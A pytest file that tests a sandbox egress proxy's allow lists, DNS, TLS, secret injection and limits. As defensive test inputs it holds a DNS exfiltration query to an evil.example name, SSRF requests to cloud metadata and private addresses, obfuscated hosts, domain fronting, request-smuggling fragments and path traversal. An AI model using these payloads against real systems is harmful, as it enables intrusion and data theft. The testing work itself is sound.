# SPDX-License-Identifier: Apache-2.0
"""Ways out of a box: what a policy allows works, by proxy and without one, and nothing else does. Real servers on this
machine's loopback, real curl in the boxes."""

import base64
import itertools
import json
import os
import re
import shlex
import signal
import socket
import subprocess
import tempfile
import threading
import time

import pytest
from api_helpers import PATIENCE, Client, eventually
from egress_helpers import World

numbers = itertools.count(1)
DIRECT = "curl -sS -m 30 --noproxy '*'"
PROXY = "curl -sS -m 30 --noproxy ''"
CODE = "-o /dev/null -w '%{http_code}'"
SECRET = "sk-live-7d1f0c4be2a94455a0"


@pytest.fixture(scope="module")
def world(top):
    directory = tempfile.mkdtemp(prefix="world-", dir=top)
    os.chmod(directory, 0o755)
    return World(directory)


@pytest.fixture(scope="module")
def net(world, top):
    """A server that opens loopback, and a client of it."""
    server = world.serve_cay(tempfile.mkdtemp(prefix="net-", dir=top))
    client = Client(server)
    yield client
    assert server.stop() == 0
    assert server.faults() == []


@pytest.fixture
def make(net):
    """Makes sandboxes with a network setting."""
    made = []

    def make(network=None, **more):
        name = f"net-{next(numbers)}"
        if network is not None:
            more["network"] = network
        net.ok("PUT", f"/sandbox/{name}", more)
        made.append(name)
        return name

    yield make
    for name in made:
        net("DELETE", f"/sandbox/{name}")


def run(net, box, command):
    """Output and errors together, without the last newline."""
    done = net.exec(box, {"command": f"( {command}\n) 2>&1", "timeout": PATIENCE * 1000})
    return done["stdout"].rstrip("\n")


def events(net, box, kind="egress"):
    found, after = [], 0
    while True:
        page = net.ok("GET", f"/sandbox/{box}/events?after={after}")
        if not page["events"]:
            return [e["data"] for e in found if e["type"] == kind]
        found += page["events"]
        after = page["events"][-1]["id"]


def decided(net, box, **want):
    def look():
        return [e for e in events(net, box) if all(e.get(k) == v for k, v in want.items())]

    return eventually(look)[0]


# --- what is allowed works


def test_a_proxy_in_the_environment(net, make, world):
    box = make({"allow": [f"web.example:{world.web}"]})
    assert run(net, box, f"curl -sS http://web.example:{world.web}/a?b=c") == (
        f"hello from web.example:{world.web} /a?b=c")
    seen = decided(net, box, host="web.example", decision="allow")
    assert (seen["port"], seen["via"]) == (world.web, "http")
    # What belongs to the proxy stays with it.
    assert run(net, box, f"curl -sS -H 'Proxy-Authorization: Basic eDp5' -H 'Proxy-Connection: x' -H 'X-Mine: 1' "
                         f"http://web.example:{world.web}/mine {CODE}") == "200"
    headers = {k.lower(): v for k, v in [s for s in world.seen if s[1] == "/mine"][0][2].items()}
    assert headers["x-mine"] == "1"
    assert not [h for h in headers if h.startswith("proxy-")]


def test_bodies_both_ways(net, make, world):
    box = make({"allow": [f"web.example:{world.web}"]})
    url = f"http://web.example:{world.web}"
    assert run(net, box, "head -c 3000000 /dev/urandom > b; sha256sum < b | cut -c-64 > s; "
                         f"curl -sS --data-binary @b {url}/sum | diff - <(tr -d '\\n' < s) && echo same") == "same"
    assert run(net, box, f"curl -sS '{url}/big?n=5000000' | wc -c") == "5000000"
    assert run(net, box, f"{DIRECT} '{url}/big?n=5000000' | wc -c") == "5000000"


def test_tls_through_connect(net, make, world):
    box = make({"allow": [f"web.example:{world.tls}"]})
    ca = (world.top / "ca.pem").read_text()
    run(net, box, f"cat > ca.pem <<'END'\n{ca}END")
    url = f"https://web.example:{world.tls}"
    assert run(net, box, f"curl -sS --cacert ca.pem {url}/x") == f"hello from web.example:{world.tls} /x"
    assert run(net, box, f"curl -sS --cacert ca.pem '{url}/big?n=3000000' | wc -c") == "3000000"
    assert decided(net, box, decision="allow")["via"] == "connect"
    end = eventually(lambda: events(net, box, "egress_end"))
    assert max(e["bytes"] for e in end) > 0


def test_programs_that_know_no_proxy(net, make, world):
    box = make({"allow": [f"web.example:{world.web}", f"web.example:{world.tls}", f"web.example:{world.echo_port}"]})
    ca = (world.top / "ca.pem").read_text()
    run(net, box, f"cat > ca.pem <<'END'\n{ca}END")
    assert run(net, box, f"{DIRECT} http://web.example:{world.web}/t").startswith("hello from web.example")
    assert run(net, box, f"{DIRECT} --cacert ca.pem https://web.example:{world.tls}/t").startswith("hello from")
    assert decided(net, box, decision="allow")["via"] == "transparent"
    # A protocol that nobody here knows.
    script = (f"exec 3<>/dev/tcp/web.example/{world.echo_port}; echo how are you >&3; head -n 1 <&3")
    assert run(net, box, f"bash -c {shlex.quote(script)}") == "how are you"


def test_globs_and_ports(net, make, world):
    box = make({"allow": [f"*.wild.example:{world.web}"]})
    for host, code in [("a.wild.example", "200"), ("deep.a.wild.example", "200"), ("wild.example", "403"),
                       ("evilwild.example", "403")]:
        assert run(net, box, f"curl -sS http://{host}:{world.web}/ {CODE}") == code, host
    assert "port is not in the allow list" in run(net, box, f"curl -sS http://a.wild.example:{world.tls}/")


def test_addresses_and_networks(net, make, world):
    box = make({"allow": [f"127.0.0.1:{world.web}"]})
    assert run(net, box, f"{PROXY} http://127.0.0.1:{world.web}/ {CODE}") == "200"
    assert run(net, box, f"{PROXY} http://127.0.0.2:{world.web}/ {CODE}") == "403"
    # A name with an allowed address is still another name.
    assert run(net, box, f"{PROXY} http://web.example:{world.web}/ {CODE}") == "403"


def test_internet_is_all_but_what_is_special(net, make, world):
    box = make("internet")
    assert run(net, box, f"curl -sS http://web.example:{world.web}/ {CODE}") == "200"  # this server opens loopback
    assert run(net, box, f"{DIRECT} http://web.example:{world.web}/ {CODE}") == "200"
    for url in ["http://169.254.169.254/latest/meta-data/", "http://10.0.0.1/", "http://[fd00:ec2::254]/",
                "http://192.168.1.1/", "http://0.0.0.0/", "http://[::ffff:10.0.0.1]/", "http://[64:ff9b::a00:1]/"]:
        answer = run(net, box, f"{PROXY} '{url}'")
        assert "is not reached from a sandbox" in answer, (url, answer)
    assert run(net, box, f"{DIRECT} http://169.254.169.254:81/").startswith("curl: (")


# --- what is not does not


def test_denied_programs_are_told_what_to_do(net, make, world):
    box = make({"allow": ["api.example"]})
    text = run(net, box, "curl -sS -i http://other.example/")
    assert text.startswith("HTTP/1.1 403 ") and "text/plain" in text
    assert "cay: other.example:80 is not allowed by this sandbox's network setting (network: allow" in text
    assert f'PATCH /sandbox/{box} {{"network": {{"allow": ["other.example:80"]}}}}' in text
    text = run(net, box, "curl -sSv https://other.example/")
    assert "403" in text
    assert "other.example:443 is not allowed" in run(
        net, box, "printf 'CONNECT other.example:443 HTTP/1.1\\r\\nHost: other.example:443\\r\\nConnection: close\\r\\n\\r\\n' | "
                  "timeout 20 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; cat <&3'")
    assert "other.example" in json.dumps(decided(net, box, decision="deny", port=443))


def test_none_is_none(net, make):
    box = make()
    assert run(net, box, "env | grep -ic proxy") == "0"
    assert "Could not resolve" in run(net, box, f"{DIRECT} http://web.example/")
    text = run(net, box, f"{DIRECT} http://93.184.216.34/")
    assert "unreachable" in text or "Couldn't connect" in text or "Failed to connect" in text
    assert run(net, box, "timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128' 2>/dev/null || echo nobody") == "nobody"


def test_a_network_that_cannot_be_had_is_refused(net, make):
    """A program in the box has the proxy's port."""
    box = make()
    taker = net.ok("POST", f"/sandbox/{box}/processes", {"argv": [
        "python3", "-uc", "import socket, time; s = socket.create_server(('', 3128)); print('up'); time.sleep(900)"]})
    net.ok("POST", f"/sandbox/{box}/processes/{taker['id']}/wait", {"log": "up", "timeout": 60000})
    reply = net("PATCH", f"/sandbox/{box}", {"network": "internet"})
    assert reply.status == 409 and "port 3128" in reply.json["error"]
    assert net.ok("GET", f"/sandbox/{box}")["network"] == "none"
    net.ok("DELETE", f"/sandbox/{box}/processes/{taker['id']}")
    eventually(lambda: net("PATCH", f"/sandbox/{box}", {"network": "internet"}).status == 200)
    assert run(net, box, "timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128' && echo there") == "there"


def test_an_empty_list_is_nothing(net, make, world):
    box = make({"allow": []})
    assert run(net, box, f"curl -sS http://web.example:{world.web}/ {CODE}") == "403"
    assert "Could not resolve" in run(net, box, f"{DIRECT} http://web.example:{world.web}/")


def test_without_a_proxy_denied_is_denied(net, make, world):
    box = make({"allow": [f"web.example:{world.web}"]})
    assert "is not allowed by this sandbox's network" in run(net, box, f"{DIRECT} http://127.0.0.2/ ; "
                                                                       f"{DIRECT} http://93.184.216.34/")
    assert run(net, box, f"{DIRECT} http://93.184.216.34:8080/").startswith("curl: (")
    assert run(net, box, f"{DIRECT} http://web.example:{world.tls}/").startswith("curl: (")
    assert run(net, box, f"{DIRECT} -6 'http://[2606:4700::1111]/'").startswith("curl: (")


def test_the_server_itself_is_out_of_reach(net, make, world):
    box = make({"allow": ["web.example:*", "127.0.0.1:*", "localhost:*"]})
    port = net.server.port
    for host in ["web.example", "127.0.0.1", "localhost"]:
        assert "the server itself" in run(net, box, f"{PROXY} http://{host}:{port}/health"), host
    assert run(net, box, f"{DIRECT} http://web.example:{port}/health").startswith("curl: (") or "server itself" in run(
        net, box, f"{DIRECT} http://web.example:{port}/health")
    text = run(net, box, f"{PROXY} -p http://web.example:{port}/health {CODE}")
    assert not text.startswith("200")


ODD = [
    "127.1:{port}", "0x7f.0.0.1:{port}", "0x7f000001:{port}", "2130706433:{port}", "0177.0.0.1:{port}",
    "127.0.0.01:{port}", "user@web.example:{port}", "web.example:0{port}", "web.example:+{port}", "web.example: {port}",
    "web.example", "web.example:", "web.example:0", "web.example:65536", "web.example\\0.evil.example:{port}",
    "web.example%00:{port}", "web.example..:{port}", "web.exampl\\xc3\\xa9:{port}", "web\\xe3\\x80\\x82example:{port}",
    "[127.0.0.1]:{port}", "[::1%25lo]:{port}", "[0:0:0:0:0:0:0:1]:{port}", "http://web.example:{port}", "*:{port}",
]


@pytest.mark.parametrize("target", ODD)
def test_odd_hosts_are_refused(net, odd_box, world, target):
    line = target.format(port=world.web)
    text = run(net, odd_box, f"printf 'CONNECT {line.replace('%', '%%')} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | timeout 20 "
                             "bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; head -c 12 <&3'")
    assert text.startswith("HTTP/1.1 400"), text


@pytest.fixture(scope="module")
def odd_box(net, world):
    net.ok("PUT", "/sandbox/odd", {"network": {"allow": ["web.example:*", "127.0.0.1:*"]}})
    yield "odd"
    net("DELETE", "/sandbox/odd")


def test_other_writings_of_the_same_host(net, odd_box, world):
    for host in ["WEB.Example", "web.example."]:
        assert run(net, odd_box, f"curl -sS http://{host}:{world.web}/ {CODE}") == "200", host


def test_nonsense_to_the_proxy(net, odd_box, world):
    for request in ["GET / HTTP/1.1\\r\\nHost: web.example\\r\\n\\r\\n", "GET ftp://web.example/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
                    "GET https://web.example/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n", "hello\\r\\n\\r\\n",
                    "GET http://web.example/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"]:
        text = run(net, odd_box, f"printf '{request}' | timeout 20 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; "
                                 "head -c 12 <&3'")
        assert text == "HTTP/1.1 400", (request, text)


def test_no_answer_is_told(net, make):
    box = make({"allow": ["web.example:1", "nothing.invalid"]})
    text = run(net, box, "curl -sS -i http://web.example:1/")
    assert text.startswith("HTTP/1.1 502") and "refuses the connection" in text
    text = run(net, box, "curl -sS -i http://nothing.invalid/")
    assert text.startswith("HTTP/1.1 502") and "cannot be reached" in text


def test_hosts_behind_the_same_address(net, make, world):
    """Domain fronting: the connection is to an allowed name, and what is asked for is another."""
    box = make({"allow": [f"web.example:{world.web}", f"web.example:{world.tls}"]})
    text = run(net, box, f"{DIRECT} -H 'Host: other.example' http://web.example:{world.web}/")
    assert "Host says other.example" in text
    assert "Host says other.example" in run(net, box, f"curl -sS -p -H 'Host: other.example' http://web.example:{world.web}/")
    # By the proxy Host is what the URL says.
    assert run(net, box, f"curl -sS -H 'Host: other.example' http://web.example:{world.web}/h").startswith(
        f"hello from web.example:{world.web}")
    client = f"openssl s_client -quiet -proxy 127.0.0.1:3128 -connect web.example:{world.tls} -servername"
    ask = "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | timeout 20"
    assert "hello from" in run(net, box, f"{ask} {client} web.example")
    assert "hello from" not in run(net, box, f"{ask} {client} other.example")
    assert "asks for another host" in decided(net, box, decision="deny", port=world.tls)["why"]
    assert "hello from" not in run(net, box, f"{ask} openssl s_client -quiet -connect web.example:{world.tls} "
                                             "-servername other.example")


HELLO_WITH_CONNECT = """
import socket, ssl, sys
host, port, name = sys.argv[1:]
out = ssl.MemoryBIO()
tls = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), out, server_hostname=name)
try:
    tls.do_handshake()
except ssl.SSLWantReadError:
    pass
s = socket.create_connection(("127.0.0.1", 3128), 20)
s.sendall(f"CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n".encode() + out.read())
try:
    while data := s.recv(4096):
        if b"\\x16\\x03" in data:
            print("TLS")
            break
except OSError as e:
    print(type(e).__name__)
"""


def test_a_hello_that_comes_with_its_connect(net, make, world):
    """Its first bytes are there before the tunnel is."""
    box = make({"allow": [f"web.example:{world.tls}"]})
    for _ in range(20):
        text = run(net, box, f"python3 -c '{HELLO_WITH_CONNECT}' web.example {world.tls} other.example")
        assert "TLS" not in text, text
    assert "TLS" in run(net, box, f"python3 -c '{HELLO_WITH_CONNECT}' web.example {world.tls} web.example")
    assert "asks for another host" in decided(net, box, decision="deny", port=world.tls)["why"]


# --- names


QUERY = """
import socket, struct, sys
name, kind, server = sys.argv[1], int(sys.argv[2]), sys.argv[3]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(float(sys.argv[4]))
q = b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0"
q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0" + struct.pack(">HH", kind, 1)
s.sendto(q, (server, int(sys.argv[5])))
try:
    a, peer = s.recvfrom(600)
    print(a[3] & 15, struct.unpack(">H", a[6:8])[0], ".".join(map(str, a[-4:])), peer[0])
except OSError as e:
    print(type(e).__name__)
"""


def ask(net, box, name, kind, server="127.0.0.1", wait=20, port=53):
    return run(net, box, f"python3 -c {shlex.quote(QUERY)} {name} {kind} {server} {wait} {port}")


def test_the_name_server(net, make):
    box = make({"allow": ["web.example:8000"]})
    code, n, address, peer = ask(net, box, "web.example", 1).split()
    assert (code, n, peer) == ("0", "1", "127.0.0.1")
    assert re.match(r"198\.1[89]\.", address)
    assert ask(net, box, "WEB.example", 1).split()[2] == address
    assert ask(net, box, "web.example", 28).startswith("0 0 ")
    assert ask(net, box, "web.example", 16).startswith("4 0 ")  # TXT
    assert ask(net, box, "other.example", 1).startswith("3 0 ")
    assert ask(net, box, "7365637265742d64617461.evil.example", 16).startswith("3 0 ")
    # One that a program has built in is this one too.
    assert ask(net, box, "web.example", 1, "8.8.8.8").split()[2:] == [address, "8.8.8.8"]
    # Nothing else that is UDP leads anywhere.
    assert ask(net, box, "web.example", 1, "8.8.8.8", wait=3, port=443) in ("TimeoutError", "ConnectionRefusedError")
    assert ask(net, box, "web.example", 1, "127.0.0.1", wait=3, port=5353) in ("TimeoutError", "ConnectionRefusedError")
    assert run(net, box, "getent hosts web.example").startswith(address)


def test_names_are_resolved_outside_and_checked(net, make, world):
    box = make({"allow": ["*.example:*"]})
    for curl in [DIRECT, "curl -sS -m 30"]:
        assert run(net, box, f"{curl} http://served.example:{world.web}/ {CODE}") == "200"
        # Only what is open of what the name server says is connected to.
        assert run(net, box, f"{curl} http://mixed.example:{world.web}/ {CODE}") == "200"
    assert "metadata" in run(net, box, "curl -sS http://meta.example/")
    assert run(net, box, f"{DIRECT} http://meta.example:81/").startswith("curl: (")
    assert "the server itself" in run(net, box, f"curl -sS http://server.example:{net.server.port}/health")
    # The search list of the machine is not for names of boxes.
    assert "no such name" in run(net, box, "curl -sS http://absent.example/")
    assert [n for n in world.dns.asked if "search" in n] == []


def test_no_question_leaves_the_machine(net, make, world):
    box = make({"allow": ["served.example"]})
    before = len(world.dns.asked)
    run(net, box, "for i in 1 2 3; do getent hosts secret$i.data.example; getent hosts served.example; done; "
                  "curl -sS http://secret4.data.example/")
    assert world.dns.asked[before:] == []


# --- while it runs


def test_a_tunnel_is_cut_when_the_policy_changes(net, make, world):
    allow = {"allow": [f"web.example:{world.echo_port}", f"web.example:{world.web}"]}
    box = make(allow)
    script = (f"exec 3<>/dev/tcp/web.example/{world.echo_port}; echo one >&3; read a <&3; echo got $a; "
              "read b <&3; echo over")
    process = net.start(box, {"command": f"bash -c {shlex.quote(script)}"})

    def output():
        return net("GET", f"/sandbox/{box}/processes/{process}/logs").body

    eventually(lambda: b"got one" in output())
    # A change that still allows it does nothing to it.
    net.ok("PATCH", f"/sandbox/{box}", {"network": {"allow": [f"web.example:{world.echo_port}"]}})
    time.sleep(0.3)
    assert b"over" not in output()
    net.ok("PATCH", f"/sandbox/{box}", {"network": {"allow": ["api.example"]}})
    assert net.ended(box, process)["reason"] == "exit"
    assert b"over" in output()
    assert run(net, box, f"curl -sS http://web.example:{world.web}/ {CODE}") == "403"
    net.ok("PATCH", f"/sandbox/{box}", {"network": allow})
    assert run(net, box, f"curl -sS http://web.example:{world.web}/ {CODE}") == "200"


def test_none_ends_everything(net, make, world):
    box = make("internet")
    script = (f"exec 3<>/dev/tcp/web.example/{world.echo_port}; echo one >&3; read a <&3; echo got $a; "
              "read b <&3; echo over")
    process = net.start(box, {"command": f"bash -c {shlex.quote(script)}"})
    eventually(lambda: b"got one" in net("GET", f"/sandbox/{box}/processes/{process}/logs").body)
    net.ok("PATCH", f"/sandbox/{box}", {"network": "none"})
    net.ended(box, process)
    assert run(net, box, f"http_proxy=http://127.0.0.1:3128 curl -sS http://web.example:{world.web}/ {CODE}") == "403"


def test_a_network_can_come_later(net, make, world):
    box = make()
    assert run(net, box, "true") == ""
    net.ok("PATCH", f"/sandbox/{box}", {"network": {"allow": [f"web.example:{world.web}"]}})
    eventually(lambda: run(net, box, f"{DIRECT} http://web.example:{world.web}/ {CODE}") == "200")


def test_max_bytes(net, make, world):
    for curl in [DIRECT, PROXY, f"{PROXY} -p"]:
        box = make({"allow": [f"web.example:{world.web}"], "maxBytes": 200000})
        got = run(net, box, f"{curl} 'http://web.example:{world.web}/big?n=3000000' -o f; stat -c %s f")
        assert int(got.split()[-1]) <= 200000, got
        assert "maxBytes" in run(net, box, f"curl -sS http://web.example:{world.web}/")


def test_bytes_per_second_of_all_together(net, make, world):
    box = make({"allow": [f"web.example:{world.web}"], "bytesPerSecond": 200000})
    for curl in [DIRECT, PROXY]:
        one = f"{curl} 'http://web.example:{world.web}/big?n=300000' | wc -c"
        began = time.monotonic()
        assert run(net, box, f"({one}) & ({one}) & wait") == "300000\n300000"
        # 600,000 bytes at 200,000 a second, less what may be on its way.
        assert time.monotonic() - began > 1.5, curl


@pytest.mark.long
def test_a_flood_of_decisions_is_not_a_flood_of_events(net, make):
    box = make({"allow": ["web.example"]})
    run(net, box, "for i in $(seq 300); do echo \"url=http://h$i.evil.example/\"; echo -o /dev/null; done > urls; "
                  "curl -sS -K urls")
    run(net, box, "for i in $(seq 300); do echo 'url=http://same.evil.example/'; echo -o /dev/null; done > urls; "
                  "curl -sS -K urls")
    told = eventually(lambda: events(net, box, "egress_suppressed"))
    assert 50 <= len(events(net, box)) < 250
    assert sum(e["count"] for e in told) > 0


def test_many_connections_at_once(net, make, world):
    box = make({"allow": [f"web.example:{world.web}"]})
    script = f"""
import socket
all = [socket.create_connection(("127.0.0.1", 3128)) for i in range(300)]
for s in all[:200]: s.sendall(b"GET http://web.example:{world.web}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
print(sum(s.recv(12) == b"HTTP/1.1 200" for s in all[:200]))
for s in all: s.close()
"""
    assert run(net, box, f"python3 -c {shlex.quote(script)}") == "200"
    assert run(net, box, f"curl -sS http://web.example:{world.web}/ {CODE}") == "200"


def test_a_new_daemon_goes_on(net, make, world):
    box = make({"allow": [f"web.example:{world.web}"]})
    url = f"http://web.example:{world.web}/"
    assert run(net, box, f"curl -sS {url} {CODE}") == "200"
    children = subprocess.run(["pgrep", "-P", str(net.server.process.pid), "cayd"], capture_output=True, text=True)
    os.kill(int(children.stdout.split()[0]), signal.SIGKILL)

    def works():
        try:
            return run(net, box, f"curl -sS {url} {CODE}") == "200" and run(net, box, f"{DIRECT} {url} {CODE}") == "200"
        except (OSError, AssertionError):
            return False

    eventually(works)


def test_boxes_do_not_meet(net, make):
    one, two = make("internet"), make("internet")
    process = net.start(one, {"command": "python3 -m http.server 8000 --bind 0.0.0.0"})
    eventually(lambda: run(net, one, f"{PROXY} --noproxy '*' http://127.0.0.1:8000/ {CODE}") == "200")
    addresses = run(net, one, "hostname -I 2>/dev/null; cat /proc/net/fib_trie | grep -oE '[0-9]+\\.[0-9.]+' | sort -u")
    for address in set(addresses.split()) | {"127.0.0.1", "0.0.0.0"}:
        assert "Directory listing" not in run(net, two, f"{DIRECT} -m 5 http://{address}:8000/"), address
    net("DELETE", f"/sandbox/{one}/processes/{process}")


# --- secrets


@pytest.fixture
def secret(net, world):
    """Makes secrets whose upstream is the world's."""
    made = []

    def secret(value=SECRET, upstream=None, **more):
        name = f"key-{next(numbers)}"
        upstream = upstream or f"https://api.example:{world.tls}"
        reply = net("PUT", f"/secrets/{name}", {"value": value, "upstream": upstream, **more})
        assert reply.status in (200, 201), reply
        made.append(name)
        return name

    yield secret
    for name in made:
        net("DELETE", f"/secrets/{name}")


def last_seen(world, path):
    return {k.lower(): v for k, v in [s for s in world.seen if s[1] == path][-1][2].items()}


LENIENT = r"""
import socket, sys, time
s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
s.sendall(f"CONNECT web.example:{sys.argv[1]} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
assert b" 200 " in s.recv(4096)
try:
    for piece in sys.argv[2:]:
        s.sendall(piece.encode().decode("unicode_escape").encode())
        time.sleep(0.2)
    while s.recv(4096):
        pass
except OSError:
    pass
"""


@pytest.mark.parametrize("pieces", [
    ["\\r\\n", "GET / HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n"],
    ["\\nGET / HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n"],
    ["FOO / HTTP/1.1\\r\\nHost: web.example\\r\\n\\r\\n", "GET / HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n"],
    ["\\r\\n" * 9000, "GET / HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n"],
    ["get\\t/ HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n"],
], ids=["empty line", "line feed", "unknown method", "many lines", "tab"])
def test_no_other_host_is_asked_for_through_an_allowed_one(net, make, pieces):
    """Servers with many hosts skip empty lines, and go on after a method that they do not know."""
    got, listener = [], socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]

    def serve():
        client, _ = listener.accept()
        with client:
            client.settimeout(PATIENCE)
            try:
                while data := client.recv(65536):
                    got.append(data)
                    if b"\r\n\r\n" in data:
                        client.sendall(b"HTTP/1.1 405 No\r\nContent-Length: 0\r\n\r\n")
            except OSError:
                pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    box = make({"allow": [f"web.example:{port}"]})
    net("PUT", f"/sandbox/{box}/files/tmp/ask.py", LENIENT)
    net.exec(box, {"argv": ["timeout", "8", "python3", "/tmp/ask.py", str(port), *pieces]})
    listener.close()
    assert b"other.example" not in b"".join(got)


@pytest.mark.parametrize("curl", [DIRECT, "curl -sS -m 30"])
@pytest.mark.parametrize("network", [None, "internet", {"allow": []}])
def test_a_secret_is_put_in(net, make, secret, world, curl, network):
    name = secret()
    box = make(network, secrets=[name])
    path = f"/v1/x-{next(numbers)}?q=1"
    assert run(net, box, f"{curl} -H 'Authorization: mine' 'http://{name}.cay{path}'") == (
        f"hello from api.example:{world.tls} {path}")
    headers = last_seen(world, path)
    assert headers["authorization"] == f"Bearer {SECRET}"
    assert headers["host"] == f"api.example:{world.tls}"
    assert decided(net, box, via="secret")["decision"] == "allow"
    # And that is all that it opens.
    if network is None:
        assert run(net, box, f"curl -sS http://api.example:{world.tls}/ {CODE}") == "403"


def test_header_format_prefix_and_bodies(net, make, secret, world):
    key = secret(upstream=f"https://api.example:{world.tls}/base", header="X-Api-Key", format="{}")
    basic = secret("user:a-long-password", format="Basic {basic}")
    box = make(secrets=[key, basic])
    assert run(net, box, f"curl -sS http://{key}.cay/p").endswith(" /base/p")
    assert last_seen(world, "/base/p")["x-api-key"] == SECRET
    assert run(net, box, f"curl -sS http://{basic}.cay/b").endswith(" /b")
    assert last_seen(world, "/b")["authorization"] == "Basic " + base64.b64encode(b"user:a-long-password").decode()
    assert run(net, box, "head -c 2000000 /dev/urandom > b; sha256sum < b | cut -c-64 | tr -d '\\n' > s; "
                         f"curl -sS --data-binary @b http://{key}.cay/sum | diff - s && echo same") == "same"
    assert run(net, box, f"curl -sS 'http://{key}.cay/big?n=3000000' | wc -c") == "3000000"
    # Out of its path leads nothing.
    for path in ["/../x", "/a/../../x", "/%2e%2e/x", "/.%2E/x", "/..", "/a/..%2fx", "/..\\\\x", "/..;/x", "/a/..;y=1/x"]:
        assert run(net, box, f"curl -sS --path-as-is 'http://{key}.cay{path}' {CODE}") == "400", path


def test_an_upstream_that_echoes_is_cut_off(net, make, secret, world):
    name, basic = secret(), secret("user:a-long-password", format="Basic {basic}")
    box = make(secrets=[name, basic])
    for path in ["/echo", "/echo-head", "/echo-chunks"]:
        for n, value in [(name, SECRET), (basic, base64.b64encode(b"user:a-long-password").decode())]:
            text = run(net, box, f"curl -sS -i http://{n}.cay{path}")
            assert value not in text and value[:10] not in text, (path, text)
    assert run(net, box, f"curl -sS -X TRACE http://{name}.cay/ {CODE}") == "405"
    assert "cut off" in decided(net, box, via="secret", decision="deny")["why"]


def test_redirects_carry_nothing(net, make, secret, world):
    name = secret()
    box = make({"allow": [f"web.example:{world.web}"]}, secrets=[name])
    own = f"https://api.example:{world.tls}"
    show = "-o /dev/null -w '%{redirect_url}'"
    assert run(net, box, f"curl -sS {show} 'http://{name}.cay/redirect?to={own}/next'") == f"http://{name}.cay/next"
    assert run(net, box, f"curl -sS {show} 'http://{name}.cay/redirect?to=/next'") == f"http://{name}.cay/next"
    away = f"http://web.example:{world.web}/away-{next(numbers)}"
    assert run(net, box, f"curl -sS -L 'http://{name}.cay/redirect?to={away}'").startswith("hello from web.example")
    assert "authorization" not in last_seen(world, away[away.index("/away"):])


def test_who_may_use_a_secret(net, make, secret, world):
    name, other = secret(), secret()
    box = make({"allow": ["api.example"]}, secrets=[name])
    text = run(net, box, f"curl -sS -i http://{other}.cay/")
    assert text.startswith("HTTP/1.1 403") and f'{{"secrets": ["{other}"]}}' in text
    assert "Could not resolve" in run(net, box, f"{DIRECT} http://{other}.cay/")
    assert run(net, box, f"curl -sS https://{name}.cay/ {CODE} -p 2>/dev/null") == "000"
    net.ok("PATCH", f"/sandbox/{box}", {"secrets": [other]})
    assert run(net, box, f"curl -sS http://{name}.cay/ {CODE}") == "403"
    assert run(net, box, f"curl -sS http://{other}.cay/ {CODE}") == "200"


def test_a_secret_is_changed_and_removed(net, make, secret, world):
    name = secret()
    box = make(secrets=[name])
    assert run(net, box, f"curl -sS http://{name}.cay/r1 {CODE}") == "200"
    net.ok("PUT", f"/secrets/{name}", {"value": "another-value-123", "upstream": f"https://api.example:{world.tls}"})
    assert run(net, box, f"curl -sS http://{name}.cay/r2 {CODE}") == "200"
    assert last_seen(world, "/r2")["authorization"] == "Bearer another-value-123"


def test_limits_hold_for_secrets_too(net, make, secret, world):
    name = secret()
    box = make({"allow": [], "bytesPerSecond": 400000}, secrets=[name])
    began = time.monotonic()
    assert run(net, box, f"curl -sS 'http://{name}.cay/big?n=800000' | wc -c") == "800000"
    assert time.monotonic() - began > 1
    box = make({"allow": [], "maxBytes": 100000}, secrets=[name])
    assert int(run(net, box, f"curl -sS 'http://{name}.cay/big?n=800000' -o f 2>/dev/null; stat -c %s f")) <= 100000
    assert "maxBytes" in run(net, box, f"curl -sS http://{name}.cay/")


def test_an_upstream_without_tls(net, make, secret, world):
    """Only in networks that the installation has opened."""
    name = secret(upstream=f"http://api.example:{world.web}")
    box = make(secrets=[name])
    path = f"/plain-{next(numbers)}"
    assert run(net, box, f"curl -sS http://{name}.cay{path} {CODE}") == "200"
    assert last_seen(world, path)["authorization"] == f"Bearer {SECRET}"
    assert SECRET[:10] not in run(net, box, f"curl -sS -i http://{name}.cay/echo")


def test_several_requests_on_one_connection(net, make, secret, world):
    name = secret()
    box = make({"allow": [f"web.example:{world.web}"]}, secrets=[name])
    urls = [f"http://web.example:{world.web}/1", f"http://{name}.cay/2", "http://other.example/3", f"http://{name}.cay/4",
            f"http://web.example:{world.web}/5", f"http://{name}.cay/6"]
    codes = run(net, box, "curl -sS -w '\\n%{http_code} %{num_connects}\\n' " + " ".join(urls) + " | grep -E '^[0-9]+ [01]$'")
    assert [line.split()[0] for line in codes.split("\n")] == ["200", "200", "403", "200", "200", "200"], codes
    assert sum(int(line.split()[1]) for line in codes.split("\n")) == 1, codes
    for path in ["/1", "/5"]:
        assert "authorization" not in last_seen(world, path)


def test_a_credential_goes_to_its_own_upstream_alone(net, make, secret, world):
    """One connection of the box: an upstream is open, the next one cannot be reached, and is asked for again."""
    good, dead = secret(), secret("the-other-one-0123456789", upstream="https://other.example:1")
    box = make(secrets=[good, dead])
